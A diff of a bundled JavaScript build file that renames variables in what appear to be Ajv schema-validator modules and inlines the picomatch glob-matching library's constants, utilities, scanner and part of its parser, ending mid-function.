-      (_a = definition.implements) === null || _a === void 0 ? void 0 : _a.forEach((kwd) => this.addKeyword(kwd));
+        ruleGroup.rules.push(rule);
+      RULES.all[keyword] = rule;
+      (_a = definition2.implements) === null || _a === void 0 ? void 0 : _a.forEach((kwd) => this.addKeyword(kwd));
     }
-    function addBeforeRule(ruleGroup, rule2, before) {
+    function addBeforeRule(ruleGroup, rule, before) {
       const i2 = ruleGroup.rules.findIndex((_rule) => _rule.keyword === before);
       if (i2 >= 0) {
-        ruleGroup.rules.splice(i2, 0, rule2);
+        ruleGroup.rules.splice(i2, 0, rule);
       } else {
-        ruleGroup.rules.push(rule2);
+        ruleGroup.rules.push(rule);
         this.logger.warn(`rule ${before} is not defined`);
       }
     }
@@ -8753,9 +6977,9 @@ var require_dynamicAnchor = __commonJS({
     exports.dynamicAnchor = dynamicAnchor;
     function _getValidate(cxt) {
       const { schemaEnv, schema, self: self2 } = cxt.it;
-      const { root, baseId, localRefs, meta: meta9 } = schemaEnv.root;
+      const { root, baseId, localRefs, meta } = schemaEnv.root;
       const { schemaId } = self2.opts;
-      const sch = new compile_1.SchemaEnv({ schema, schemaId, root, baseId, localRefs, meta: meta9 });
+      const sch = new compile_1.SchemaEnv({ schema, schemaId, root, baseId, localRefs, meta });
       compile_1.compileSchema.call(self2, sch);
       return (0, ref_1.getValidate)(cxt, sch);
     }
@@ -9503,8 +7727,8 @@ var require__ = __commonJS({
       }
       _addDefaultMetaSchema() {
         super._addDefaultMetaSchema();
-        const { $data, meta: meta9 } = this.opts;
-        if (!meta9)
+        const { $data, meta } = this.opts;
+        if (!meta)
           return;
         json_schema_2020_12_1.default.call(this, $data);
         this.refs["http://json-schema.org/schema"] = META_SCHEMA_ID;
@@ -21257,6 +19481,1782 @@ ${JSON.stringify(symbolNames, null, 2)}`);
   }
 });
 
+// node_modules/picomatch/lib/constants.js
+var require_constants = __commonJS({
+  "node_modules/picomatch/lib/constants.js"(exports, module2) {
+    "use strict";
+    var WIN_SLASH = "\\\\/";
+    var WIN_NO_SLASH = `[^${WIN_SLASH}]`;
+    var DEFAULT_MAX_EXTGLOB_RECURSION = 0;
+    var DOT_LITERAL = "\\.";
+    var PLUS_LITERAL = "\\+";
+    var QMARK_LITERAL = "\\?";
+    var SLASH_LITERAL = "\\/";
+    var ONE_CHAR = "(?=.)";
+    var QMARK = "[^/]";
+    var END_ANCHOR = `(?:${SLASH_LITERAL}|$)`;
+    var START_ANCHOR = `(?:^|${SLASH_LITERAL})`;
+    var DOTS_SLASH = `${DOT_LITERAL}{1,2}${END_ANCHOR}`;
+    var NO_DOT = `(?!${DOT_LITERAL})`;
+    var NO_DOTS = `(?!${START_ANCHOR}${DOTS_SLASH})`;
+    var NO_DOT_SLASH = `(?!${DOT_LITERAL}{0,1}${END_ANCHOR})`;
+    var NO_DOTS_SLASH = `(?!${DOTS_SLASH})`;
+    var QMARK_NO_DOT = `[^.${SLASH_LITERAL}]`;
+    var STAR = `${QMARK}*?`;
+    var SEP = "/";
+    var POSIX_CHARS = {
+      DOT_LITERAL,
+      PLUS_LITERAL,
+      QMARK_LITERAL,
+      SLASH_LITERAL,
+      ONE_CHAR,
+      QMARK,
+      END_ANCHOR,
+      DOTS_SLASH,
+      NO_DOT,
+      NO_DOTS,
+      NO_DOT_SLASH,
+      NO_DOTS_SLASH,
+      QMARK_NO_DOT,
+      STAR,
+      START_ANCHOR,
+      SEP
+    };
+    var WINDOWS_CHARS = {
+      ...POSIX_CHARS,
+      SLASH_LITERAL: `[${WIN_SLASH}]`,
+      QMARK: WIN_NO_SLASH,
+      STAR: `${WIN_NO_SLASH}*?`,
+      DOTS_SLASH: `${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$)`,
+      NO_DOT: `(?!${DOT_LITERAL})`,
+      NO_DOTS: `(?!(?:^|[${WIN_SLASH}])${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
+      NO_DOT_SLASH: `(?!${DOT_LITERAL}{0,1}(?:[${WIN_SLASH}]|$))`,
+      NO_DOTS_SLASH: `(?!${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
+      QMARK_NO_DOT: `[^.${WIN_SLASH}]`,
+      START_ANCHOR: `(?:^|[${WIN_SLASH}])`,
+      END_ANCHOR: `(?:[${WIN_SLASH}]|$)`,
+      SEP: "\\"
+    };
+    var POSIX_REGEX_SOURCE = {
+      __proto__: null,
+      alnum: "a-zA-Z0-9",
+      alpha: "a-zA-Z",
+      ascii: "\\x00-\\x7F",
+      blank: " \\t",
+      cntrl: "\\x00-\\x1F\\x7F",
+      digit: "0-9",
+      graph: "\\x21-\\x7E",
+      lower: "a-z",
+      print: "\\x20-\\x7E ",
+      punct: "\\-!\"#$%&'()\\*+,./:;<=>?@[\\]^_`{|}~",
+      space: " \\t\\r\\n\\v\\f",
+      upper: "A-Z",
+      word: "A-Za-z0-9_",
+      xdigit: "A-Fa-f0-9"
+    };
+    module2.exports = {
+      DEFAULT_MAX_EXTGLOB_RECURSION,
+      MAX_LENGTH: 1024 * 64,
+      POSIX_REGEX_SOURCE,
+      // regular expressions
+      REGEX_BACKSLASH: /\\(?![*+?^${}(|)[\]])/g,
+      REGEX_NON_SPECIAL_CHARS: /^[^@![\].,$*+?^{}()|\\/]+/,
+      REGEX_SPECIAL_CHARS: /[-*+?.^${}(|)[\]]/,
+      REGEX_SPECIAL_CHARS_BACKREF: /(\\?)((\W)(\3*))/g,
+      REGEX_SPECIAL_CHARS_GLOBAL: /([-*+?.^${}(|)[\]])/g,
+      REGEX_REMOVE_BACKSLASH: /(?:\[.*?[^\\]\]|\\(?=.))/g,
+      // Replace globs with equivalent patterns to reduce parsing time.
+      REPLACEMENTS: {
+        __proto__: null,
+        "***": "*",
+        "**/**": "**",
+        "**/**/**": "**"
+      },
+      // Digits
+      CHAR_0: 48,
+      /* 0 */
+      CHAR_9: 57,
+      /* 9 */
+      // Alphabet chars.
+      CHAR_UPPERCASE_A: 65,
+      /* A */
+      CHAR_LOWERCASE_A: 97,
+      /* a */
+      CHAR_UPPERCASE_Z: 90,
+      /* Z */
+      CHAR_LOWERCASE_Z: 122,
+      /* z */
+      CHAR_LEFT_PARENTHESES: 40,
+      /* ( */
+      CHAR_RIGHT_PARENTHESES: 41,
+      /* ) */
+      CHAR_ASTERISK: 42,
+      /* * */
+      // Non-alphabetic chars.
+      CHAR_AMPERSAND: 38,
+      /* & */
+      CHAR_AT: 64,
+      /* @ */
+      CHAR_BACKWARD_SLASH: 92,
+      /* \ */
+      CHAR_CARRIAGE_RETURN: 13,
+      /* \r */
+      CHAR_CIRCUMFLEX_ACCENT: 94,
+      /* ^ */
+      CHAR_COLON: 58,
+      /* : */
+      CHAR_COMMA: 44,
+      /* , */
+      CHAR_DOT: 46,
+      /* . */
+      CHAR_DOUBLE_QUOTE: 34,
+      /* " */
+      CHAR_EQUAL: 61,
+      /* = */
+      CHAR_EXCLAMATION_MARK: 33,
+      /* ! */
+      CHAR_FORM_FEED: 12,
+      /* \f */
+      CHAR_FORWARD_SLASH: 47,
+      /* / */
+      CHAR_GRAVE_ACCENT: 96,
+      /* ` */
+      CHAR_HASH: 35,
+      /* # */
+      CHAR_HYPHEN_MINUS: 45,
+      /* - */
+      CHAR_LEFT_ANGLE_BRACKET: 60,
+      /* < */
+      CHAR_LEFT_CURLY_BRACE: 123,
+      /* { */
+      CHAR_LEFT_SQUARE_BRACKET: 91,
+      /* [ */
+      CHAR_LINE_FEED: 10,
+      /* \n */
+      CHAR_NO_BREAK_SPACE: 160,
+      /* \u00A0 */
+      CHAR_PERCENT: 37,
+      /* % */
+      CHAR_PLUS: 43,
+      /* + */
+      CHAR_QUESTION_MARK: 63,
+      /* ? */
+      CHAR_RIGHT_ANGLE_BRACKET: 62,
+      /* > */
+      CHAR_RIGHT_CURLY_BRACE: 125,
+      /* } */
+      CHAR_RIGHT_SQUARE_BRACKET: 93,
+      /* ] */
+      CHAR_SEMICOLON: 59,
+      /* ; */
+      CHAR_SINGLE_QUOTE: 39,
+      /* ' */
+      CHAR_SPACE: 32,
+      /*   */
+      CHAR_TAB: 9,
+      /* \t */
+      CHAR_UNDERSCORE: 95,
+      /* _ */
+      CHAR_VERTICAL_LINE: 124,
+      /* | */
+      CHAR_ZERO_WIDTH_NOBREAK_SPACE: 65279,
+      /* \uFEFF */
+      /**
+       * Create EXTGLOB_CHARS
+       */
+      extglobChars(chars) {
+        return {
+          "!": { type: "negate", open: "(?:(?!(?:", close: `))${chars.STAR})` },
+          "?": { type: "qmark", open: "(?:", close: ")?" },
+          "+": { type: "plus", open: "(?:", close: ")+" },
+          "*": { type: "star", open: "(?:", close: ")*" },
+          "@": { type: "at", open: "(?:", close: ")" }
+        };
+      },
+      /**
+       * Create GLOB_CHARS
+       */
+      globChars(win32) {
+        return win32 === true ? WINDOWS_CHARS : POSIX_CHARS;
+      }
+    };
+  }
+});
+
+// node_modules/picomatch/lib/utils.js
+var require_utils2 = __commonJS({
+  "node_modules/picomatch/lib/utils.js"(exports) {
+    "use strict";
+    var {
+      REGEX_BACKSLASH,
+      REGEX_REMOVE_BACKSLASH,
+      REGEX_SPECIAL_CHARS,
+      REGEX_SPECIAL_CHARS_GLOBAL
+    } = require_constants();
+    exports.isObject = (val) => val !== null && typeof val === "object" && !Array.isArray(val);
+    exports.hasRegexChars = (str2) => REGEX_SPECIAL_CHARS.test(str2);
+    exports.isRegexChar = (str2) => str2.length === 1 && exports.hasRegexChars(str2);
+    exports.escapeRegex = (str2) => str2.replace(REGEX_SPECIAL_CHARS_GLOBAL, "\\$1");
+    exports.toPosixSlashes = (str2) => str2.replace(REGEX_BACKSLASH, "/");
+    exports.isWindows = () => {
+      if (typeof navigator !== "undefined" && navigator.platform) {
+        const platform = navigator.platform.toLowerCase();
+        return platform === "win32" || platform === "windows";
+      }
+      if (typeof process !== "undefined" && process.platform) {
+        return process.platform === "win32";
+      }
+      return false;
+    };
+    exports.removeBackslashes = (str2) => {
+      return str2.replace(REGEX_REMOVE_BACKSLASH, (match) => {
+        return match === "\\" ? "" : match;
+      });
+    };
+    exports.escapeLast = (input, char, lastIdx) => {
+      const idx = input.lastIndexOf(char, lastIdx);
+      if (idx === -1) return input;
+      if (input[idx - 1] === "\\") return exports.escapeLast(input, char, idx - 1);
+      return `${input.slice(0, idx)}\\${input.slice(idx)}`;
+    };
+    exports.removePrefix = (input, state = {}) => {
+      let output = input;
+      if (output.startsWith("./")) {
+        output = output.slice(2);
+        state.prefix = "./";
+      }
+      return output;
+    };
+    exports.wrapOutput = (input, state = {}, options = {}) => {
+      const prepend = options.contains ? "" : "^";
+      const append = options.contains ? "" : "$";
+      let output = `${prepend}(?:${input})${append}`;
+      if (state.negated === true) {
+        output = `(?:^(?!${output}).*$)`;
+      }
+      return output;
+    };
+    exports.basename = (path2, { windows } = {}) => {
+      const segs = path2.split(windows ? /[\\/]/ : "/");
+      const last = segs[segs.length - 1];
+      if (last === "") {
+        return segs[segs.length - 2];
+      }
+      return last;
+    };
+  }
+});
+
+// node_modules/picomatch/lib/scan.js
+var require_scan = __commonJS({
+  "node_modules/picomatch/lib/scan.js"(exports, module2) {
+    "use strict";
+    var utils = require_utils2();
+    var {
+      CHAR_ASTERISK,
+      /* * */
+      CHAR_AT,
+      /* @ */
+      CHAR_BACKWARD_SLASH,
+      /* \ */
+      CHAR_COMMA,
+      /* , */
+      CHAR_DOT,
+      /* . */
+      CHAR_EXCLAMATION_MARK,
+      /* ! */
+      CHAR_FORWARD_SLASH,
+      /* / */
+      CHAR_LEFT_CURLY_BRACE,
+      /* { */
+      CHAR_LEFT_PARENTHESES,
+      /* ( */
+      CHAR_LEFT_SQUARE_BRACKET,
+      /* [ */
+      CHAR_PLUS,
+      /* + */
+      CHAR_QUESTION_MARK,
+      /* ? */
+      CHAR_RIGHT_CURLY_BRACE,
+      /* } */
+      CHAR_RIGHT_PARENTHESES,
+      /* ) */
+      CHAR_RIGHT_SQUARE_BRACKET
+      /* ] */
+    } = require_constants();
+    var isPathSeparator = (code2) => {
+      return code2 === CHAR_FORWARD_SLASH || code2 === CHAR_BACKWARD_SLASH;
+    };
+    var depth = (token) => {
+      if (token.isPrefix !== true) {
+        token.depth = token.isGlobstar ? Infinity : 1;
+      }
+    };
+    var scan2 = (input, options) => {
+      const opts = options || {};
+      const length = input.length - 1;
+      const scanToEnd = opts.parts === true || opts.tokens === true || opts.scanToEnd === true;
+      const slashes = [];
+      const tokens = [];
+      const parts2 = [];
+      let str2 = input;
+      let index = -1;
+      let start2 = 0;
+      let lastIndex = 0;
+      let isBrace = false;
+      let isBracket = false;
+      let isGlob = false;
+      let isExtglob = false;
+      let isGlobstar = false;
+      let braceEscaped = false;
+      let backslashes = false;
+      let negated = false;
+      let negatedExtglob = false;
+      let finished = false;
+      let braces = 0;
+      let prev;
+      let code2;
+      let token = { value: "", depth: 0, isGlob: false };
+      const eos = () => index >= length;
+      const peek = () => str2.charCodeAt(index + 1);
+      const advance = () => {
+        prev = code2;
+        return str2.charCodeAt(++index);
+      };
+      while (index < length) {
+        code2 = advance();
+        let next;
+        if (code2 === CHAR_BACKWARD_SLASH) {
+          backslashes = token.backslashes = true;
+          code2 = advance();
+          if (code2 === CHAR_LEFT_CURLY_BRACE) {
+            braceEscaped = true;
+          }
+          continue;
+        }
+        if (braceEscaped === true || code2 === CHAR_LEFT_CURLY_BRACE) {
+          braces++;
+          while (eos() !== true && (code2 = advance())) {
+            if (code2 === CHAR_BACKWARD_SLASH) {
+              backslashes = token.backslashes = true;
+              advance();
+              continue;
+            }
+            if (code2 === CHAR_LEFT_CURLY_BRACE) {
+              braces++;
+              continue;
+            }
+            if (braceEscaped !== true && code2 === CHAR_DOT && (code2 = advance()) === CHAR_DOT) {
+              isBrace = token.isBrace = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              if (scanToEnd === true) {
+                continue;
+              }
+              break;
+            }
+            if (braceEscaped !== true && code2 === CHAR_COMMA) {
+              isBrace = token.isBrace = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              if (scanToEnd === true) {
+                continue;
+              }
+              break;
+            }
+            if (code2 === CHAR_RIGHT_CURLY_BRACE) {
+              braces--;
+              if (braces === 0) {
+                braceEscaped = false;
+                isBrace = token.isBrace = true;
+                finished = true;
+                break;
+              }
+            }
+          }
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code2 === CHAR_FORWARD_SLASH) {
+          slashes.push(index);
+          tokens.push(token);
+          token = { value: "", depth: 0, isGlob: false };
+          if (finished === true) continue;
+          if (prev === CHAR_DOT && index === start2 + 1) {
+            start2 += 2;
+            continue;
+          }
+          lastIndex = index + 1;
+          continue;
+        }
+        if (opts.noext !== true) {
+          const isExtglobChar = code2 === CHAR_PLUS || code2 === CHAR_AT || code2 === CHAR_ASTERISK || code2 === CHAR_QUESTION_MARK || code2 === CHAR_EXCLAMATION_MARK;
+          if (isExtglobChar === true && peek() === CHAR_LEFT_PARENTHESES) {
+            isGlob = token.isGlob = true;
+            isExtglob = token.isExtglob = true;
+            finished = true;
+            if (code2 === CHAR_EXCLAMATION_MARK && index === start2) {
+              negatedExtglob = true;
+            }
+            if (scanToEnd === true) {
+              let parens = 0;
+              while (eos() !== true && (code2 = advance())) {
+                if (code2 === CHAR_BACKWARD_SLASH) {
+                  backslashes = token.backslashes = true;
+                  advance();
+                  continue;
+                }
+                if (code2 === CHAR_LEFT_PARENTHESES) {
+                  parens++;
+                  continue;
+                }
+                if (code2 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
+                  finished = true;
+                  break;
+                }
+              }
+              continue;
+            }
+            break;
+          }
+        }
+        if (code2 === CHAR_ASTERISK) {
+          if (prev === CHAR_ASTERISK) isGlobstar = token.isGlobstar = true;
+          isGlob = token.isGlob = true;
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code2 === CHAR_QUESTION_MARK) {
+          isGlob = token.isGlob = true;
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code2 === CHAR_LEFT_SQUARE_BRACKET) {
+          while (eos() !== true && (next = advance())) {
+            if (next === CHAR_BACKWARD_SLASH) {
+              backslashes = token.backslashes = true;
+              advance();
+              continue;
+            }
+            if (next === CHAR_RIGHT_SQUARE_BRACKET) {
+              isBracket = token.isBracket = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              break;
+            }
+          }
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (opts.nonegate !== true && code2 === CHAR_EXCLAMATION_MARK && index === start2) {
+          negated = token.negated = true;
+          start2++;
+          continue;
+        }
+        if (opts.noparen !== true && code2 === CHAR_LEFT_PARENTHESES) {
+          isGlob = token.isGlob = true;
+          if (scanToEnd === true) {
+            let parens = 1;
+            while (eos() !== true && (code2 = advance())) {
+              if (code2 === CHAR_BACKWARD_SLASH) {
+                backslashes = token.backslashes = true;
+                advance();
+                continue;
+              }
+              if (code2 === CHAR_LEFT_PARENTHESES) {
+                parens++;
+                continue;
+              }
+              if (code2 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
+                finished = true;
+                break;
+              }
+            }
+            continue;
+          }
+          break;
+        }
+        if (isGlob === true) {
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+      }
+      if (opts.noext === true) {
+        isExtglob = false;
+        isGlob = false;
+      }
+      let base = str2;
+      let prefix = "";
+      let glob = "";
+      if (start2 > 0) {
+        prefix = str2.slice(0, start2);
+        str2 = str2.slice(start2);
+        lastIndex -= start2;
+      }
+      if (base && isGlob === true && lastIndex > 0) {
+        base = str2.slice(0, lastIndex);
+        glob = str2.slice(lastIndex);
+      } else if (isGlob === true) {
+        base = "";
+        glob = str2;
+      } else {
+        base = str2;
+      }
+      if (base && base !== "" && base !== "/" && base !== str2) {
+        if (isPathSeparator(base.charCodeAt(base.length - 1))) {
+          base = base.slice(0, -1);
+        }
+      }
+      if (opts.unescape === true) {
+        if (glob) glob = utils.removeBackslashes(glob);
+        if (base && backslashes === true) {
+          base = utils.removeBackslashes(base);
+        }
+      }
+      const state = {
+        prefix,
+        input,
+        start: start2,
+        base,
+        glob,
+        isBrace,
+        isBracket,
+        isGlob,
+        isExtglob,
+        isGlobstar,
+        negated,
+        negatedExtglob
+      };
+      if (opts.tokens === true) {
+        state.maxDepth = 0;
+        if (!isPathSeparator(code2)) {
+          tokens.push(token);
+        }
+        state.tokens = tokens;
+      }
+      if (opts.parts === true || opts.tokens === true) {
+        let prevIndex;
+        for (let idx = 0; idx < slashes.length; idx++) {
+          const n2 = prevIndex !== void 0 ? prevIndex + 1 : start2;
+          const i2 = slashes[idx];
+          const value2 = input.slice(n2, i2);
+          if (opts.tokens) {
+            if (idx === 0 && start2 !== 0) {
+              tokens[idx].isPrefix = true;
+              tokens[idx].value = prefix;
+            } else {
+              tokens[idx].value = value2;
+            }
+            depth(tokens[idx]);
+            state.maxDepth += tokens[idx].depth;
+          }
+          if (i2 >= start2) {
+            parts2.push(value2);
+            prevIndex = i2;
+          }
+        }
+        const n = prevIndex !== void 0 ? prevIndex + 1 : start2;
+        const value = input.slice(n);
+        parts2.push(value);
+        if (opts.tokens && prevIndex && prevIndex + 1 < input.length) {
+          tokens[tokens.length - 1].value = value;
+          depth(tokens[tokens.length - 1]);
+          state.maxDepth += tokens[tokens.length - 1].depth;
+        }
+        state.slashes = slashes;
+        state.parts = parts2;
+      }
+      return state;
+    };
+    module2.exports = scan2;
+  }
+});
+
+// node_modules/picomatch/lib/parse.js
+var require_parse = __commonJS({
+  "node_modules/picomatch/lib/parse.js"(exports, module2) {
+    "use strict";
+    var constants = require_constants();
+    var utils = require_utils2();
+    var {
+      MAX_LENGTH,
+      POSIX_REGEX_SOURCE,
+      REGEX_NON_SPECIAL_CHARS,
+      REGEX_SPECIAL_CHARS_BACKREF,
+      REPLACEMENTS
+    } = constants;
+    var expandRange = (args2, options) => {
+      if (typeof options.expandRange === "function") {
+        return options.expandRange(...args2, options);
+      }
+      args2.sort();
+      const value = `[${args2.join("-")}]`;
+      try {
+        new RegExp(value);
+      } catch (ex) {
+        return args2.map((v) => utils.escapeRegex(v)).join("..");
+      }
+      return value;
+    };
+    var syntaxError = (type, char) => {
+      return `Missing ${type}: "${char}" - use "\\\\${char}" to match literal characters`;
+    };
+    var splitTopLevel = (input) => {
+      const parts2 = [];
+      let bracket = 0;
+      let paren = 0;
+      let quote = 0;
+      let value = "";
+      let escaped = false;
+      for (const ch of input) {
+        if (escaped === true) {
+          value += ch;
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          value += ch;
+          escaped = true;
+          continue;
+        }
+        if (ch === '"') {
+          quote = quote === 1 ? 0 : 1;
+          value += ch;
+          continue;
+        }
+        if (quote === 0) {
+          if (ch === "[") {
+            bracket++;
+          } else if (ch === "]" && bracket > 0) {
+            bracket--;
+          } else if (bracket === 0) {
+            if (ch === "(") {
+              paren++;
+            } else if (ch === ")" && paren > 0) {
+              paren--;
+            } else if (ch === "|" && paren === 0) {
+              parts2.push(value);
+              value = "";
+              continue;
+            }
+          }
+        }
+        value += ch;
+      }
+      parts2.push(value);
+      return parts2;
+    };
+    var isPlainBranch = (branch) => {
+      let escaped = false;
+      for (const ch of branch) {
+        if (escaped === true) {
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          escaped = true;
+          continue;
+        }
+        if (/[?*+@!()[\]{}]/.test(ch)) {
+          return false;
+        }
+      }
+      return true;
+    };
+    var normalizeSimpleBranch = (branch) => {
+      let value = branch.trim();
+      let changed = true;
+      while (changed === true) {
+        changed = false;
+        if (/^@\([^\\()[\]{}|]+\)$/.test(value)) {
+          value = value.slice(2, -1);
+          changed = true;
+        }
+      }
+      if (!isPlainBranch(value)) {
+        return;
+      }
+      return value.replace(/\\(.)/g, "$1");
+    };
+    var hasRepeatedCharPrefixOverlap = (branches) => {
+      const values = branches.map(normalizeSimpleBranch).filter(Boolean);
+      for (let i2 = 0; i2 < values.length; i2++) {
+        for (let j = i2 + 1; j < values.length; j++) {
+          const a = values[i2];
+          const b = values[j];
+          const char = a[0];
+          if (!char || a !== char.repeat(a.length) || b !== char.repeat(b.length)) {
+            continue;
+          }
+          if (a === b || a.startsWith(b) || b.startsWith(a)) {
+            return true;
+          }
+        }
+      }
+      return false;
+    };
+    var parseRepeatedExtglob = (pattern, requireEnd = true) => {
+      if (pattern[0] !== "+" && pattern[0] !== "*" || pattern[1] !== "(") {
+        return;
+      }
+      let bracket = 0;
+      let paren = 0;
+      let quote = 0;
+      let escaped = false;
+      for (let i2 = 1; i2 < pattern.length; i2++) {
+        const ch = pattern[i2];
+        if (escaped === true) {
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          escaped = true;
+          continue;
+        }
+        if (ch === '"') {
+          quote = quote === 1 ? 0 : 1;
+          continue;
+        }
+        if (quote === 1) {
+          continue;
+        }
+        if (ch === "[") {
+          bracket++;
+          continue;
+        }
+        if (ch === "]" && bracket > 0) {
+          bracket--;
+          continue;
+        }
+        if (bracket > 0) {
+          continue;
+        }
+        if (ch === "(") {
+          paren++;
+          continue;
+        }
+        if (ch === ")") {
+          paren--;
+          if (paren === 0) {
+            if (requireEnd === true && i2 !== pattern.length - 1) {
+              return;
+            }
+            return {
+              type: pattern[0],
+              body: pattern.slice(2, i2),
+              end: i2
+            };
+          }
+        }
+      }
+    };
+    var buildCharClassStar = (chars) => {
+      const source = chars.length === 1 ? utils.escapeRegex(chars[0]) : `[${chars.map((ch) => utils.escapeRegex(ch)).join("")}]`;
+      return `${source}*`;
+    };
+    var getStarExtglobSequenceChars = (pattern) => {
+      let index = 0;
+      const chars = [];
+      while (index < pattern.length) {
+        const match = parseRepeatedExtglob(pattern.slice(index), false);
+        if (!match || match.type !== "*") {
+          return;
+        }
+        const branches = splitTopLevel(match.body).map((branch2) => branch2.trim());
+        if (branches.length !== 1) {
+          return;
+        }
+        const branch = normalizeSimpleBranch(branches[0]);
+        if (!branch || branch.length !== 1) {
+          return;
+        }
+        chars.push(branch);
+        index += match.end + 1;
+      }
+      if (chars.length < 1) {
+        return;
+      }
+      return chars;
+    };
+    var repeatedExtglobRecursion = (pattern) => {
+      let depth = 0;
+      let value = pattern.trim();
+      let match = parseRepeatedExtglob(value);
+      while (match) {
+        depth++;
+        value = match.body.trim();
+        match = parseRepeatedExtglob(value);
+      }
+      return depth;
+    };
+    var analyzeRepeatedExtglob = (body2, options) => {
+      if (options.maxExtglobRecursion === false) {
+        return { risky: false };
+      }
+      const max = typeof options.maxExtglobRecursion === "number" ? options.maxExtglobRecursion : constants.DEFAULT_MAX_EXTGLOB_RECURSION;
+      const branches = splitTopLevel(body2).map((branch) => branch.trim());
+      if (branches.length > 1) {
+        if (branches.some((branch) => branch === "") || branches.some((branch) => /^[*?]+$/.test(branch)) || hasRepeatedCharPrefixOverlap(branches)) {
+          return { risky: true };
+        }
+      }
+      const safeChars = [];
+      let sawStarSequence = false;
+      let combinable = true;
+      for (const branch of branches) {
+        const chars = getStarExtglobSequenceChars(branch);
+        if (chars) {
+          sawStarSequence = true;
+          safeChars.push(...chars);
+          continue;
+        }
+        const literal = normalizeSimpleBranch(branch);
+        if (literal && literal.length === 1) {
+          safeChars.push(literal);
+          continue;
+        }
+        combinable = false;
+        if (repeatedExtglobRecursion(branch) > max) {
+          return { risky: true };
+        }
+      }
+      if (sawStarSequence) {
+        return combinable ? { risky: true, safeOutput: buildCharClassStar([...new Set(safeChars)]) } : { risky: true };
+      }
+      return { risky: false };
+    };
+    var parse3 = (input, options) => {
+      if (typeof input !== "string") {
+        throw new TypeError("Expected a string");
+      }
+      input = REPLACEMENTS[input] || input;
+      const opts = { ...options };
+      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
+      let len = input.length;
+      if (len > max) {
+        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
+      }
+      const bos = { type: "bos", value: "", output: opts.prepend || "" };
+      const tokens = [bos];
+      const capture = opts.capture ? "" : "?:";
+      const PLATFORM_CHARS = constants.globChars(opts.windows);
+      const EXTGLOB_CHARS = constants.extglobChars(PLATFORM_CHARS);
+      const {
+        DOT_LITERAL,
+        PLUS_LITERAL,
+        SLASH_LITERAL,
+        ONE_CHAR,
+        DOTS_SLASH,
+        NO_DOT,
+        NO_DOT_SLASH,
+        NO_DOTS_SLASH,
+        QMARK,
+        QMARK_NO_DOT,
+        STAR,
+        START_ANCHOR
+      } = PLATFORM_CHARS;
+      const globstar = (opts2) => {
+        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
+      };
+      const nodot = opts.dot ? "" : NO_DOT;
+      const qmarkNoDot = opts.dot ? QMARK : QMARK_NO_DOT;
+      let star = opts.bash === true ? globstar(opts) : STAR;
+      if (opts.capture) {
+        star = `(${star})`;
+      }
+      if (typeof opts.noext === "boolean") {
+        opts.noextglob = opts.noext;
+      }
+      const state = {
+        input,
+        index: -1,
+        start: 0,
+        dot: opts.dot === true,
+        consumed: "",
+        output: "",
+        prefix: "",
+        backtrack: false,
+        negated: false,
+        brackets: 0,
+        braces: 0,
+        parens: 0,
+        quotes: 0,
+        globstar: false,
+        tokens
+      };
+      input = utils.removePrefix(input, state);
+      len = input.length;
+      const extglobs = [];
+      const braces = [];
+      const stack = [];
+      let prev = bos;
+      let value;
+      const eos = () => state.index === len - 1;
+      const peek = state.peek = (n = 1) => input[state.index + n];
+      const advance = state.advance = () => input[++state.index] || "";
+      const remaining = () => input.slice(state.index + 1);
+      const consume = (value2 = "", num = 0) => {
+        state.consumed += value2;
+        state.index += num;
+      };
+      const append = (token) => {
+        state.output += token.output != null ? token.output : token.value;
+        consume(token.value);
+      };
+      const negate = () => {
+        let count = 1;
+        while (peek() === "!" && (peek(2) !== "(" || peek(3) === "?")) {
+          advance();
+          state.start++;
+          count++;
+        }
+        if (count % 2 === 0) {
+          return false;
+        }
+        state.negated = true;
+        state.start++;
+        return true;
+      };
+      const increment = (type) => {
+        state[type]++;
+        stack.push(type);
+      };
+      const decrement = (type) => {
+        state[type]--;
+        stack.pop();
+      };
+      const push = (tok) => {
+        if (prev.type === "globstar") {
+          const isBrace = state.braces > 0 && (tok.type === "comma" || tok.type === "brace");
+          const isExtglob = tok.extglob === true || extglobs.length && (tok.type === "pipe" || tok.type === "paren");
+          if (tok.type !== "slash" && tok.type !== "paren" && !isBrace && !isExtglob) {
+            state.output = state.output.slice(0, -prev.output.length);
+            prev.type = "star";
+            prev.value = "*";
+            prev.output = star;
+            state.output += prev.output;
+          }
+        }
+        if (extglobs.length && tok.type !== "paren") {
+          extglobs[extglobs.length - 1].inner += tok.value;
+        }
+        if (tok.value || tok.output) append(tok);
+        if (prev && prev.type === "text" && tok.type === "text") {
+          prev.output = (prev.output || prev.value) + tok.value;
+          prev.value += tok.value;
+          return;
+        }
+        tok.prev = prev;
+        tokens.push(tok);
+        prev = tok;
+      };
+      const extglobOpen = (type, value2) => {
+        const token = { ...EXTGLOB_CHARS[value2], conditions: 1, inner: "" };
+        token.prev = prev;
+        token.parens = state.parens;
+        token.output = state.output;
+        token.startIndex = state.index;
+        token.tokensIndex = tokens.length;
+        const output = (opts.capture ? "(" : "") + token.open;
+        increment("parens");
+        push({ type, value: value2, output: state.output ? "" : ONE_CHAR });
+        push({ type: "paren", extglob: true, value: advance(), output });
+        extglobs.push(token);
+      };
+      const extglobClose = (token) => {
+        const literal = input.slice(token.startIndex, state.index + 1);
+        const body2 = input.slice(token.startIndex + 2, state.index);
